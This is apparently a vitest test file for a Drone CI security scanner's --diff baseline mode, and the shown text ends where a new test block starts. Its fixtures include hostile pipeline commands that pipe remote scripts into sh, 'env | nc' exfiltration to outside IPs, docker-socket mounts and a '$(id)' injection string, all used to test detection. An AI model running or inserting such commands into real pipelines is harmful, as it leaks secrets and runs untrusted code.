import { execFileSync } from 'node:child_process';
import {
  appendFileSync,
  chmodSync,
  cpSync,
  mkdirSync,
  readdirSync,
  readFileSync,
  rmSync,
  symlinkSync,
  writeFileSync,
} from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { droneAudit, temporaryFolder } from './support/cli.ts';
import { commitFiles, git, hasGit, writeFiles } from './support/git.ts';

const pipeline = (steps: readonly string[], name = 'default'): string =>
  `kind: pipeline\ntype: docker\nname: ${name}\n\ntrigger:\n  event: [push]\n\nsteps:\n${steps.join('')}`;
const build = '  - name: build\n    image: golang:latest\n    commands: [make]\n';
const privileged = '  - name: image\n    image: plugins/kaniko:1.2.3\n    privileged: true\n';
const script = '  - name: get\n    image: alpine@sha256:aa\n    commands:\n      - curl http://x.example/a.sh | sh\n';
const compose = 'services:\n  drone:\n    image: drone/drone:2\n    ports: ["443:443"]\n    env_file: server.env\n';
const open = 'DRONE_SERVER_HOST=ci.example.com\nDRONE_SERVER_PROTO=https\nDRONE_GITHUB_CLIENT_ID=abc\n';
const closed = `${open}DRONE_REGISTRATION_CLOSED=true\nDRONE_USER_FILTER=octocat\n`;

function diff(cwd: string, reference: string, ...args: string[]) {
  const { status, stdout, stderr } = droneAudit(['scan', '--format', 'json', '--diff', reference, ...args], { cwd });
  const json = stdout === '' ? undefined : JSON.parse(stdout);
  return {
    ...{ status, stdout, stderr },
    findings: (json?.findings ?? []).map((each: { file: string; rule: string }) => `${each.file} ${each.rule}`),
    problems: (json?.problems ?? []).map((each: { file: string; message: string }) => `${each.file}: ${each.message}`),
    baseline: json?.summary.baseline as { kind: string; name: string; known: number; fixed: number } | undefined,
  };
}

/** A repository with known findings on main, and a branch that starts there. */
function repository(files: Record<string, string | Buffer> = { '.drone.yml': pipeline([build, privileged]) }): string {
  const folder = temporaryFolder();
  git(folder, ['init', '-q']);
  commitFiles(folder, files);
  git(folder, ['checkout', '-q', '-b', 'change']);
  return folder;
}

describe.skipIf(!hasGit)('--diff', () => {
  it('shows what a change brings in, and counts what it leaves and what it mends', () => {
    const folder = repository();
    commitFiles(folder, { '.drone.yml': pipeline([privileged, script]) });
    const { status, findings, baseline } = diff(folder, 'main');
    expect([status, findings]).toEqual([1, ['.drone.yml remote-script']]);
    const base = git(folder, ['rev-parse', '--short=12', 'main']);
    expect(baseline).toEqual({ kind: 'commit', name: `main (${base})`, known: 1, fixed: 1 });
    const { stdout } = droneAudit(['scan', '--diff', 'main'], { cwd: folder });
    expect(stdout).toContain(`1 known from main (${base})   1 fixed since   1 more with --pedantic`);
  });

  it('counts as a baseline does what only --pedantic shows, and names the commit once', () => {
    const folder = repository({ 'docker-compose.yml': compose, 'server.env': open, '.drone.yml': pipeline([build]) });
    const countsOf = (...args: string[]) => {
      const { stdout } = droneAudit(['scan', '--format', 'json', ...args], { cwd: folder });
      const { baseline, hiddenPedantic, suppressed } = JSON.parse(stdout).summary;
      return { known: baseline?.known, hiddenPedantic, suppressed };
    };
    const compared = countsOf('--diff', 'main');
    droneAudit(['scan', '--write-baseline', '../baseline.yml'], { cwd: folder });
    const baseline = countsOf('--baseline', '../baseline.yml');
    rmSync(join(folder, '../baseline.yml'));
    expect(compared).toEqual(baseline);
    expect(compared.hiddenPedantic).toBeGreaterThan(0);
    const run = (...args: string[]): string =>
      droneAudit(['scan', '--diff', 'main', ...args], { cwd: folder }).stdout.replace(/\n +/g, ' ');
    const name = `main (${git(folder, ['rev-parse', '--short=12', 'main'])})`;
    for (const text of [run('-v'), run('--format', 'csv')]) {
      expect(text).toContain(`known from ${name}`);
      expect(text).not.toContain(`${name} (`);
    }
  });

  it('shows nothing for lines that moved, files that were renamed, and steps in another order', () => {
    const folder = repository({
      'a/.drone.yml': pipeline([build, privileged, script]),
      'docker-compose.yml': compose,
      'server.env': closed,
    });
    git(folder, ['mv', 'a', 'b']);
    git(folder, ['mv', 'docker-compose.yml', 'compose.yml']);
    commitFiles(folder, { 'b/.drone.yml': `# x\n\n${pipeline([script, privileged, build])}`.replaceAll('\n', '\r\n') });
    const { status, findings, baseline } = diff(folder, 'main');
    expect([status, findings, baseline?.fixed]).toEqual([0, [], 0]);
    expect(baseline?.known).toBeGreaterThan(3);
  });

  const step = (name: string, lines: readonly string[]): string =>
    [`  - name: ${name}`, '    image: alpine@sha256:aa', ...lines.map((line) => `    ${line}`), ''].join('\n');
  const commands = (...each: string[]): readonly string[] => ['commands:', ...each.map((one) => `  - ${one}`)];
  const socket = 'volumes:\n  - name: sock\n    host: {path: /var/run/docker.sock}\n';
  const mounts = ['commands: [make]', 'volumes:', '  - {name: sock, path: /var/run/docker.sock}'];

  it.each([
    [
      'credentials-sent-out',
      [step('a', commands('env | nc 203.0.113.7 4444'))],
      step('a', commands('env | nc 203.0.113.7 4444', 'env | nc 198.51.100.9 4444')),
    ],
    [
      'remote-script',
      [step('a', commands('curl https://x.example/a | sh'))],
      step('a', commands('curl https://x.example/a | sh', 'curl http://evil.example/a | sh')),
    ],
    [
      'remote-script',
      [step('a', commands('curl https://x.example/a | sh'))],
      step('a', commands('curl https://x.example/a | sh', 'curl https://x.example/a | sh')),
    ],
    ['docker-socket-volume', [step('a', mounts), socket], [step('a', mounts), step('evil', mounts), socket]],
    [
      'secret-with-repository-code',
      [step('a', ['environment: {A: {from_secret: a}}', ...commands('make')])],
      step('a', ['environment: {A: {from_secret: a}, PROD: {from_secret: root}}', ...commands('make')]),
    ],
    [
      'secret-with-repository-code',
      [step('a', ['environment: {A: {from_secret: a}}', ...commands('make')])],
      step('a', ['environment: {A: {from_secret: root}}', ...commands('make')]),
    ],
  ])('does not know a further place of a known %s, and knows what a mended one leaves', (rule, before, after) => {
    const event = (text: string): string => text.replace('[push]', '[push, pull_request]');
    const now = [after].flat();
    const folder = repository({ '.drone.yml': event(pipeline(before)) });
    commitFiles(folder, { '.drone.yml': event(pipeline(now)) });
    expect(diff(folder, 'main').findings).toContain(`.drone.yml ${rule}`);
    if (rule === 'secret-with-repository-code') return;
    git(folder, ['branch', 'both']);
    commitFiles(folder, { '.drone.yml': event(pipeline(before)) });
    expect(diff(folder, 'both').findings).toEqual([]);
  });

  it('sees the seventh secret of a step', () => {
    const secrets = (amount: number): string =>
      Array.from({ length: amount }, (_, at) => `S${at}: {from_secret: s${at}}`).join(', ');
    const holds = (amount: number): string =>
      pipeline([step('a', [`environment: {${secrets(amount)}}`, ...commands('make')])]);
    const folder = repository({ '.drone.yml': holds(6) });
    commitFiles(folder, { '.drone.yml': holds(7) });
    expect(diff(folder, 'main').findings).toEqual(['.drone.yml secret-with-repository-code']);
    git(folder, ['branch', 'seven']);
    commitFiles(folder, { '.drone.yml': holds(6) });
    expect(diff(folder, 'seven').findings).toEqual([]);
  });

  it('compares installations, not lines: a change of variables opens a finding of the compose file', () => {
    const folder = repository({ 'docker-compose.yml': compose, 'server.env': closed });
    commitFiles(folder, { 'server.env': open });
    expect(diff(folder, 'main').findings).toContain('docker-compose.yml open-registration');
  });

  it('compares with where the change began, not with what came later', () => {
    const folder = repository();
    commitFiles(folder, { 'README.md': 'x\n' });
    git(folder, ['checkout', '-q', 'main']);
    commitFiles(folder, { '.drone.yml': pipeline([build]) });
    git(folder, ['checkout', '-q', 'change']);
    expect(diff(folder, 'main')).toMatchObject({ status: 0, findings: [] });
  });

  it('takes suppressions from before: new ones hide nothing that is new, and are shown', () => {
    const folder = repository({
      '.drone.yml': pipeline([build]),
      'drone-audit.yml': 'ignore:\n  - {rule: remote-script, reason: known}\n',
    });
    const hidden = privileged.replace('true', 'true # drone-audit: ignore[privileged-step] we need it');
    commitFiles(folder, {
      '.drone.yml': pipeline([build, script, hidden]),
      'drone-audit.yml': 'ignore:\n  - {rule: privileged-step, reason: mine}\n',
    });
    const { status, findings, problems } = diff(folder, 'main');
    expect([status, findings]).toEqual([1, ['.drone.yml unpinned-image', '.drone.yml privileged-step']]);
    expect(problems.join('\n')).toMatch(/drone-audit\.yml: differs from that of main, which counts here/);
    expect(problems.join('\n')).toContain(
      'suppression of "privileged-step" does not count for a finding that is new itself',
    );
  });

  it('says nothing of folders in which nothing is, as git mv leaves them', () => {
    const folder = repository({ 'a/b/.drone.yml': pipeline([build]) });
    mkdirSync(join(folder, 'a/b/c/d'), { recursive: true });
    git(folder, ['mv', 'a/b/.drone.yml', '.drone.yml']);
    mkdirSync(join(folder, 'a/b'), { recursive: true });
    git(folder, ['commit', '-q', '-m', 'move']);
    expect(diff(folder, 'main').problems).toEqual([]);
    writeFiles(folder, { 'a/b/c/x': '' });
    expect(diff(folder, 'main').problems).toEqual(['a: is not tracked by git and was left out of the comparison']);
  });

  it('leaves out what git does not track, and says so; what is ignored and tracked counts', () => {
    const folder = repository({ '.drone.yml': pipeline([build]), '.gitignore': 'ci\n' });
    commitFiles(folder, { 'ci/.drone.yml': pipeline([script]) });
    writeFiles(folder, { 'new/.drone.yml': pipeline([privileged]), 'server.env': open });
    const { findings, problems } = diff(folder, 'main');
    expect(findings).toEqual(['ci/.drone.yml remote-script']);
    expect(problems).toEqual(['new: is not tracked by git and was left out of the comparison (and server.env)']);
  });

  it('sees what is changed and not committed', () => {
    const folder = repository();
    appendFileSync(join(folder, '.drone.yml'), script);
    expect(diff(folder, 'HEAD')).toMatchObject({ status: 1, findings: ['.drone.yml remote-script'] });
  });

  it('reads paths, folders below the root, further work trees and bare repositories', () => {
    const folder = repository({ 'a/.drone.yml': pipeline([build]), 'b/.drone.yml': pipeline([build]) });
    commitFiles(folder, { 'a/.drone.yml': pipeline([script]), 'b/.drone.yml': pipeline([privileged]) });
    expect(diff(folder, 'main', 'a').findings).toEqual(['a/.drone.yml remote-script']);
    expect(diff(folder, 'main', 'a').baseline?.fixed).toBe(1);
    expect(diff(join(folder, 'b'), 'main').findings).toEqual(['.drone.yml privileged-step']);
    expect(diff(temporaryFolder(), 'main', join(folder, 'a')).findings).toHaveLength(1);
    const [tree, bare] = [join(folder, 'tree'), join(temporaryFolder(), 'bare.git')];
    git(folder, ['worktree', 'add', '-q', '--detach', tree, 'change']);
    expect(diff(tree, 'main').findings).toHaveLength(2);
    git(folder, ['clone', '-q', '--bare', folder, bare]);
    expect(diff(bare, 'main').findings).toEqual(['a/.drone.yml remote-script', 'b/.drone.yml privileged-step']);
    git(folder, ['gc', '-q']);
    expect(diff(folder, 'main').findings).toHaveLength(2);
  });

  it('reads links, names that are not UTF-8, and says of submodules that they are left out', () => {
    const other = repository({ '.drone.yml': pipeline([script]) });
    const folder = repository({ '.drone.yml': pipeline([build]) });
    mkdirSync(join(folder, 'links'));
    symlinkSync('../.drone.yml', join(folder, 'links/.drone.yml'));
    symlinkSync('/etc/hostname', join(folder, 'links/docker-compose.yml'));
    const odd = Buffer.concat([Buffer.from(`${folder}/caf`), Buffer.from([0xe9]), Buffer.from('.drone.yml')]);
    writeFileSync(odd, pipeline([privileged]));
    git(folder, ['submodule', '--quiet', 'add', other, 'sub']);
    const all = commitFiles(folder, {});
    const { findings, problems } = diff(folder, 'main');
    expect(findings.sort()).toEqual(
      ['caf\\xE9.drone.yml privileged-step', 'links/.drone.yml unpinned-image'].filter((each) =>
        findings.includes(each),
      ),
    );
    expect(findings).toContain('caf\\xE9.drone.yml privileged-step');
    expect(problems.join('\n')).toContain('sub: is a submodule whose commit comes with the change');
    expect(problems.join('\n')).toContain('links/docker-compose.yml: is a link that leads out of the audited folder');
    commitFiles(folder, { 'README.md': 'x' });
    expect(diff(folder, all)).toMatchObject({ findings: [] });
  });

  it('ends with 3 and the command that helps where the commit is not in the clone', { timeout: 60_000 }, () => {
    const origin = repository();
    git(origin, ['checkout', '-q', 'main']);
    for (let number = 0; number < 3; number++) commitFiles(origin, { 'a.txt': String(number) }, 1_700_000_100 + number);
    git(origin, ['checkout', '-q', 'change']);
    commitFiles(origin, { '.drone.yml': pipeline([build, privileged, script]) }, 1_700_000_200);
    const folder = temporaryFolder();
    const clone = join(folder, 'c');
    git(folder, ['clone', '-q', '--depth=1', '--branch=change', `file://${origin}`, clone]);
    const cut = diff(clone, 'origin/main');
    expect([cut.status, cut.stdout]).toEqual([3, '']);
    const command = /^ +(git fetch .*)$/m.exec(cut.stderr)?.[1] ?? '';
    expect(command).toBe('git fetch --unshallow origin +refs/heads/main:refs/remotes/origin/main');
    git(clone, command.split(' ').slice(1));
    expect(diff(clone, 'origin/main')).toMatchObject({ status: 1, findings: ['.drone.yml remote-script'] });

    const short = join(folder, 's');
    git(folder, ['clone', '-q', '--depth=1', '--no-single-branch', '--branch=change', `file://${origin}`, short]);
    const apart = diff(short, 'origin/main');
    expect([apart.status, apart.stdout]).toEqual([3, '']);
    expect(apart.stderr).toContain(
      'the clone is shallow and ends before the commit where this change left "origin/main"',
    );
    expect(apart.stderr).toContain('git fetch --unshallow origin');

    for (const [reference, words] of [
      ['nothing', 'compare with refs/remotes/origin/nothing'],
      ['mian', '  did you mean "main"?\n  if not, fetch it:\n'],
      ['1'.repeat(40), `git fetch origin ${'1'.repeat(40)}`],
      ['0'.repeat(40), 'compare with the branch that it goes into'],
      ['$(id)', 'git fetch origin'],
    ] as const) {
      const told = diff(origin, reference);
      expect([told.status, told.stdout], reference).toEqual([3, '']);
      expect(told.stderr).toContain(words);
      expect(told.stderr).not.toContain('fetch it: $(');
    }
    git(folder, ['init', '-q', 'alone']);
    commitFiles(join(folder, 'alone'), { a: 'b' });
    git(join(folder, 'alone'), ['fetch', '-q', origin, 'main:main2']);
    expect(diff(join(folder, 'alone'), 'main2').stderr).toContain('have no common history');
  });

  it('ends with 3 where objects are missing or damaged, and never with nothing new', { timeout: 60_000 }, () => {
    const origin = repository();
    git(origin, ['config', 'uploadpack.allowFilter', 'true']);
    commitFiles(origin, { '.drone.yml': pipeline([script]) });
    const folder = temporaryFolder();
    const clone = join(folder, 'c');
    git(folder, ['clone', '-q', '--filter=blob:none', '--branch=change', `file://${origin}`, clone]);
    const partial = diff(clone, 'origin/main');
    expect([partial.status, partial.stdout]).toEqual([3, '']);
    expect(partial.stderr).toMatch(/what was before cannot be read: object [0-9a-f]{40} is not there/);
    for (const command of (/refetch|git config/.exec(partial.stderr) ? partial.stderr : '').match(
      /git (?:config|fetch)[^;\n]*/g,
    ) ?? [])
      git(clone, command.trim().split(' ').slice(1));
    expect(diff(clone, 'origin/main')).toMatchObject({ status: 1, findings: ['.drone.yml remote-script'] });

    const blob = git(origin, ['rev-parse', 'main:.drone.yml']);
    const path = join(origin, '.git/objects', blob.slice(0, 2), blob.slice(2));
    chmodSync(path, 0o644);
    const bytes = readFileSync(path);
    bytes.fill(0, 10);
    writeFileSync(path, bytes);
    const damaged = diff(origin, 'main');
    expect([damaged.status, damaged.stdout]).toEqual([3, '']);
    expect(damaged.stderr).toContain(`objects/${blob.slice(0, 2)}/${blob.slice(2)} is damaged`);
  });

  it('ends with 3 where trees are left out, and where a pack or the git folder is none', { timeout: 60_000 }, () => {
    const origin = repository({ 'ci/.drone.yml': pipeline([privileged]) });
    git(origin, ['config', 'uploadpack.allowFilter', 'true']);
    commitFiles(origin, { 'ci/.drone.yml': pipeline([script]), 'drone-audit.yml': 'ignore: []\n' });
    const folder = temporaryFolder();
    const clone = join(folder, 'c');
    git(folder, ['clone', '-q', '--filter=tree:0', '--branch=change', `file://${origin}`, clone]);
    for (const paths of [[], ['ci'], ['ci/.drone.yml']]) {
      const { status, stdout, stderr } = diff(clone, 'origin/main', ...paths);
      expect([status, stdout], stderr).toEqual([3, '']);
      expect(stderr).toMatch(/object [0-9a-f]{40} is not there/);
      expect(stderr).toContain('git fetch');
    }
    git(origin, ['gc', '-q']);
    const packs = join(origin, '.git/objects/pack');
    const pack = join(packs, readdirSync(packs).find((name) => name.endsWith('.pack')) ?? '');
    const whole = readFileSync(pack);
    chmodSync(pack, 0o600);
    for (let length = 0; length < whole.length; length += 97) {
      writeFileSync(pack, whole.subarray(0, length));
      const { status, stdout, stderr } = diff(origin, 'main');
      expect([status, stdout], `${length} ${stderr}`).toEqual([3, '']);
    }
    for (const named of ['gitdir: /dev/zero\n', 'gitdir: /dev/null/x\n', 'x']) {
      const place = temporaryFolder();
      writeFiles(place, { '.git': named, '.drone.yml': pipeline([privileged]) });
      expect(diff(place, 'main')).toMatchObject({ status: 3, stdout: '' });
    }
  });

  it.each([
    'refs/tags/origin/main',
    'refs/heads/origin/main',
    'refs/origin/main',
    'refs/tags/refs/remotes/origin/main',
  ])('takes no %s for the branch that is meant', (planted) => {
    const folder = repository();
    git(folder, ['update-ref', 'refs/remotes/origin/main', 'main']);
    commitFiles(folder, { '.drone.yml': pipeline([privileged, script]) });
    git(folder, ['update-ref', planted, 'HEAD']);
    const { status, stdout, stderr } = diff(folder, 'origin/main');
    if (planted.startsWith('refs/tags/refs/')) expect(status).toBe(1);
    else {
      expect([status, stdout]).toEqual([3, '']);
      expect(stderr).toContain(`"origin/main" is ambiguous: it is ${planted} and refs/remotes/origin/main`);
      expect(stderr).toContain('--diff refs/remotes/origin/main');
    }
    expect(diff(folder, 'refs/remotes/origin/main')).toMatchObject({
      status: 1,
      findings: ['.drone.yml remote-script'],
    });
    git(folder, ['update-ref', '-d', 'refs/remotes/origin/main']);
    expect(diff(folder, 'refs/remotes/origin/main')).toMatchObject({ status: 3, stdout: '' });
    const short = git(folder, ['rev-parse', '--short=8', 'main']);
    git(folder, ['update-ref', `refs/tags/${short}`, 'HEAD']);
    expect(diff(folder, short).stderr).toContain(`"${short}" is ambiguous: it is refs/tags/${short} and commit `);
  });

  it('takes no bare repository that is part of a work tree', () => {
    const folder = repository({ 'deploy/.drone.yml': pipeline([build]) });
    const bare = join(temporaryFolder(), 'bare.git');
    git(folder, ['clone', '-q', '--bare', folder, bare]);
    for (const name of ['HEAD', 'objects', 'refs', 'packed-refs'])
      cpSync(join(bare, name), join(folder, 'deploy', name), { recursive: true });
    writeFiles(folder, { 'deploy/refs/x': '' });
    commitFiles(folder, { 'deploy/.drone.yml': pipeline([privileged]) });
    expect(diff(folder, 'main', 'deploy').findings).toEqual(['deploy/.drone.yml privileged-step']);
    expect(diff(join(folder, 'deploy'), 'main').findings).toEqual(['.drone.yml privileged-step']);
  });

  describe('with several commits where the change began', () => {
    /** Main and the change each have merged what the other began with, with a finding in one of the two. */
    function crossed(config = ''): { folder: string; bases: readonly string[] } {
      const folder = repository({
        '.drone.yml': pipeline([build, privileged]),
        'b/.drone.yml': pipeline([script]),
        ...(config ? { 'drone-audit.yml': config } : {}),
      });
      git(folder, ['checkout', '-q', '-b', 'bad']);
      const bad = commitFiles(folder, { 'a.txt': '1' }, 1_700_000_300);
      git(folder, ['checkout', '-q', 'main']);
      const files = { '.drone.yml': pipeline([build]), ...(config ? { 'drone-audit.yml': 'ignore: []\n' } : {}) };
      const mended = commitFiles(folder, files, 1_700_000_200);
      git(folder, ['merge', '-q', '--no-edit', 'bad'], { time: 1_700_000_400 });
      git(folder, ['checkout', '-q', 'bad']);
      git(folder, ['merge', '-q', '--no-edit', '-s', 'ours', mended], { time: 1_700_000_400 });
      return { folder, bases: [bad, mended] };
    }

    it('knows only what was in all of them', () => {
      const { folder, bases } = crossed();
      expect(git(folder, ['merge-base', '--all', 'HEAD', 'main']).split('\n').sort()).toEqual([...bases].sort());
      const { status, findings, baseline } = diff(folder, 'main');
      expect(status).toBe(1);
      expect(findings).toContain('.drone.yml privileged-step');
      expect(findings).not.toContain('b/.drone.yml remote-script');
      expect(baseline?.known).toBe(1);
      expect(baseline?.name).toBe(`main (${bases.map((id) => id.slice(0, 12)).join(', ')})`);
    });

    it('takes the config of what the change goes into', () => {
      const { folder } = crossed('ignore:\n  - {rule: privileged-step, reason: mine}\n');
      const { status, findings, problems } = diff(folder, 'main');
      expect([status, findings]).toEqual([1, expect.arrayContaining(['.drone.yml privileged-step'])]);
      expect(problems).toEqual(['drone-audit.yml: differs from that of main, which counts here']);
    });
  });

  it('follows links to folders that git tracks', () => {
    const folder = repository({
      'deploy/.drone.yml': pipeline([privileged]),
      'real/app.txt': closed,
      'docker-compose.yml': compose.replace('server.env', 'conf/app.txt'),
    });
    git(folder, ['checkout', '-q', 'main']);
    symlinkSync('real', join(folder, 'conf'));
    commitFiles(folder, {});
    git(folder, ['checkout', '-q', '-B', 'change']);
    git(folder, ['mv', 'deploy', 'ci']);
    symlinkSync('ci', join(folder, 'deploy'));
    commitFiles(folder, { 'ci/.drone.yml': pipeline([privileged, script]) });
    const { status, findings, problems } = diff(folder, 'main', 'deploy');
    expect([status, findings, problems]).toEqual([1, ['deploy/.drone.yml remote-script'], []]);
    commitFiles(folder, { 'real/app.txt': open });
    const stack = diff(folder, 'main');
    expect(stack.findings).toContain('docker-compose.yml open-registration');
    expect(stack.problems).toEqual([]);
  });

  it('ends with 3 where a sparse checkout left out what is compared', () => {
    const folder = repository({ 'a/.drone.yml': pipeline([build]), 'b/.drone.yml': pipeline([build]) });
    commitFiles(folder, { 'b/.drone.yml': pipeline([build, privileged]) });
    git(folder, ['sparse-checkout', 'set', '--no-sparse-index', 'a']);
    expect(diff(folder, 'main')).toMatchObject({ status: 3, stdout: '' });
    expect(diff(folder, 'main', 'b')).toMatchObject({ status: 3, stdout: '' });
    expect(diff(folder, 'main').stderr).toContain('the checkout is sparse');
    expect(diff(folder, 'main', 'a')).toMatchObject({ status: 0, findings: [] });
  });

  it('refuses what has no two sides', () => {
    const folder = repository();
    writeFiles(folder, { 'new.yml': 'ignore: []\n' });
    for (const [args, words] of [
      [['--docker'], '--docker is about what runs now'],
      [['--server', 'https://ci.example.com'], '--server is about what runs now'],
      [['--save-evidence', 'e'], '--save-evidence is about what runs now'],
      [['--baseline', 'b.yml'], 'two answers to what was there before'],
      [['--config', 'new.yml'], '"new.yml" is not there in main,'],
      [['--policy', 'new.yml'], '"new.yml" is not there in main,'],
      [['--write-baseline', 'b.yml'], 'write it without --diff'],
      [['-'], 'standard input is none'],
      [[temporaryFolder()], 'is not in the repository'],
    ] as const) {
      const { status, stdout, stderr } = droneAudit(['scan', '--diff', 'main', '.', ...args], { cwd: folder });
      expect([status, stdout], words).toEqual([2, '']);
      expect(stderr).toContain(words);
    }
    const { status, stderr } = droneAudit(['scan', '--diff', 'main'], { cwd: temporaryFolder() });
    expect([status, stderr]).toEqual([2, expect.stringContaining('this is no git repository')]);
  });

  it.each(['main@{1}', 'HEAD^{tree}', 'main..change', 'main:a', '--', '^', 'a b'])(
    'refuses %j, which names no commit',
    (reference) => {
      const { status, stdout, stderr } = droneAudit(['scan', `--diff=${reference}`], { cwd: repository() });
      expect([status, stdout]).toEqual([2, '']);
      expect(stderr).toContain(`--diff takes one branch, tag or commit, and "${reference}" is none`);
    },
  );

  it('says of steps that lead to no commit that they do, and advises no fetch', () => {
    const folder = repository();
    const [first, last] = [git(folder, ['rev-parse', 'main']), commitFiles(folder, { 'a.txt': '1' }, 1_700_000_100)];
    for (const [reference, reason] of [
      ['HEAD^2', `commit ${last.slice(0, 12)} has no parent number 2`],
      ['HEAD^^', `commit ${first.slice(0, 12)} is the first of its history`],
      ['main~100', `commit ${first.slice(0, 12)} is the first of its history`],
      ['main~200000', 'it goes back more than 100000 commits'],
    ] as const) {
      const { status, stdout, stderr } = diff(folder, reference);
      expect([status, stdout]).toEqual([3, '']);
      expect(stderr).toContain(`"${reference}" leads to no commit: ${reason}, so nothing can be compared\n`);
      expect(stderr).not.toContain('fetch');
    }
    const clone = join(temporaryFolder(), 'c');
    git(folder, ['clone', '-q', '--depth=1', '--branch=change', `file://${folder}`, clone]);
    expect(diff(clone, 'HEAD^').stderr).toContain('git fetch --unshallow origin');
  });

  it('says that a branch has no commit yet, and shows no token that stands in the place of a branch', () => {
    const folder = repository();
    git(folder, ['checkout', '-q', '--orphan', 'young']);
    const young = diff(folder, 'main');
    expect([young.status, young.stderr]).toEqual([3, expect.stringContaining('has no commit yet')]);
    git(folder, ['checkout', '-q', '-f', 'change']);
    const token = ['ghp', '_', '16C7e42F292c6912E7710c838347Ae178B4a'].join('');
    const missing = diff(folder, token);
    expect([missing.status, missing.stderr]).toEqual([3, expect.not.stringContaining(token)]);
    git(folder, ['branch', token, 'main']);
    const { stdout, stderr } = droneAudit(['scan', '--diff', token, '-v'], { cwd: folder });
    expect(stdout).toContain('known from');
    expect(stdout + stderr).not.toContain(token);
    expect(diff(folder, token).stdout).not.toContain(token);
  });

  it('reads a list of changed files on both sides', () => {
    const folder = repository({ 'a/.drone.yml': pipeline([build]), 'gone/.drone.yml': pipeline([privileged]) });
    rmSync(join(folder, 'gone'), { recursive: true });
    commitFiles(folder, { 'a/.drone.yml': pipeline([build, script]), 'README.md': 'x' });
    writeFileSync(join(folder, 'list'), git(folder, ['diff', '--name-only', 'main...HEAD']));
    const { status, findings, baseline } = diff(folder, 'main', '--targets-from', 'list');
    expect([status, findings]).toEqual([1, ['a/.drone.yml remote-script']]);
    expect(baseline).toMatchObject({ known: 1, fixed: 1 });
  });

  it('takes the config of before, also where a link from elsewhere leads to it', () => {
    const folder = repository({ '.drone.yml': pipeline([build]) });
    const ignore = 'ignore:\n  - {rule: remote-script, reason: ours}\n';
    commitFiles(folder, { '.drone.yml': pipeline([build, script]), 'drone-audit.yml': ignore });
    const link = join(temporaryFolder(), 'link');
    symlinkSync(folder, link);
    for (const config of ['drone-audit.yml', join(link, 'drone-audit.yml')])
      expect(diff(folder, 'main', '--config', config)).toMatchObject({ status: 2, stdout: '' });
    git(folder, ['checkout', '-q', 'main']);
    commitFiles(folder, { 'drone-audit.yml': 'ignore: []\n' });
    git(folder, ['checkout', '-q', '-B', 'change']);
    commitFiles(folder, { '.drone.yml': pipeline([build, script]), 'drone-audit.yml': ignore });
    for (const config of ['drone-audit.yml', join(link, 'drone-audit.yml')])
      expect(diff(folder, 'main', '--config', config).findings).toEqual(['.drone.yml remote-script']);
  });

  it('knows what is said of a whole file, whatever its first line is', () => {
    const folder = repository({ 'server.env': open });
    for (const text of [
      `# production\n${open}`,
      open.replace('ci.example.com', 'drone.example.com'),
      open.split('\n').toReversed().join('\n'),
    ]) {
      commitFiles(folder, { 'server.env': text });
      expect(diff(folder, 'main')).toMatchObject({ findings: [], baseline: { fixed: 0 } });
    }
  });

  it('needs no git program, and runs nothing that the repository names', () => {
    const folder = repository();
    git(folder, ['config', 'core.fsmonitor', `touch ${join(folder, 'ran')}`]);
    commitFiles(folder, { '.drone.yml': pipeline([script]) });
    rmSync(join(folder, 'ran'), { force: true });
    expect(diff(folder, 'main').status).toBe(1);
    expect(execFileSync('ls', ['-A', folder], { encoding: 'utf8' })).not.toContain('ran');
  });
});

describe.skipIf(!hasGit)('docs/baselines.md', () => {
  const page = readFileSync('docs/baselines.md', 'utf8');

  it('has commands for Drone that show what a pull request brings in, and nothing of what came in meanwhile', () => {
    const commands = [...page.matchAll(/^ {6}- ((?:git|drone-audit) .*\$DRONE.*)$/gm)].map(
      ([, command = '']) => command,
    );
    expect(commands).toHaveLength(2);
    const origin = repository();
    const sha = commitFiles(origin, { 'new/.drone.yml': pipeline([script]) }, 1_700_000_100);
    git(origin, ['update-ref', 'refs/pull/1/head', sha]);
    git(origin, ['checkout', '-q', 'main']);
    commitFiles(origin, { 'late/.drone.yml': pipeline([privileged]) }, 1_700_000_200);
    const clone = temporaryFolder();
    // As drone/drone-git posix/clone-pull-request has them.
    git(clone, ['init', '-q']);
    git(clone, ['remote', 'add', 'origin', `file://${origin}`]);
    git(clone, ['fetch', '-q', 'origin', '+refs/heads/main:']);
    git(clone, ['checkout', '-q', 'main']);
    git(clone, ['fetch', '-q', 'origin', 'refs/pull/1/head:']);
    git(clone, ['rebase', '-q', sha]);
    const filled = commands.map((command) =>
      command
        .replace(/"([^"]*)"/, '$1')
        .replace('$DRONE_COMMIT_SHA', sha)
        .replace('$DRONE_TARGET_BRANCH', 'main')
        .split(' '),
    );
    git(clone, filled[0]?.slice(1) ?? []);
    const { status, stdout } = droneAudit([...(filled[1]?.slice(1) ?? []), '--format', 'unix'], { cwd: clone });
    expect(status).toBe(1);
    expect(stdout).toMatch(/^new\/\.drone\.yml:\d+:\d+: high remote-script: /);
    expect(stdout).not.toMatch(/^(?:late\/)?\.drone\.yml/m);
  });

  it('has commands for a push that tell what earlier pushes of the branch brought in, which DRONE_COMMIT_BEFORE does not', () => {
    const [fetch = '', scan = ''] = /```sh\n(git fetch .*)\n(drone-audit scan .*)\n```/.exec(page)?.slice(1) ?? [];
    const origin = repository();
    const before = commitFiles(origin, { 'new/.drone.yml': pipeline([script]) }, 1_700_000_100);
    const sha = commitFiles(origin, { 'README.md': 'x' }, 1_700_000_200);
    const clone = temporaryFolder();
    // As drone/drone-git posix/clone-commit has them.
    git(clone, ['init', '-q']);
    git(clone, ['remote', 'add', 'origin', `file://${origin}`]);
    git(clone, ['fetch', '-q', 'origin', '+refs/heads/change:']);
    git(clone, ['checkout', '-q', sha, '-b', 'change']);
    const filled = (command: string): readonly string[] =>
      command.replaceAll('"', '').replaceAll('$DRONE_REPO_BRANCH', 'main').split(' ').slice(1);
    git(clone, filled(fetch));
    expect(droneAudit([...filled(scan), '--format', 'unix'], { cwd: clone })).toMatchObject({
      status: 1,
      stdout: expect.stringMatching(/^new\/\.drone\.yml:\d+:\d+: high remote-script: /),
    });
    expect(diff(clone, before)).toMatchObject({ status: 0, findings: [] });
    expect(diff(clone, sha)).toMatchObject({ status: 0, findings: [] });
  });

  it('shows a baseline that is read', () => {
    const example = /```yaml\n(version: 1\n[\s\S]*?)```/.exec(page)?.[1] ?? '';
    const folder = repository();
    writeFileSync(join(folder, 'b.yml'), example);
    expect(droneAudit(['scan', '--baseline', 'b.yml'], { cwd: folder }).status).toBe(1);
  });
});

describe('a list of targets', () => {
  const list = (cwd: string, content: string | Buffer) => {
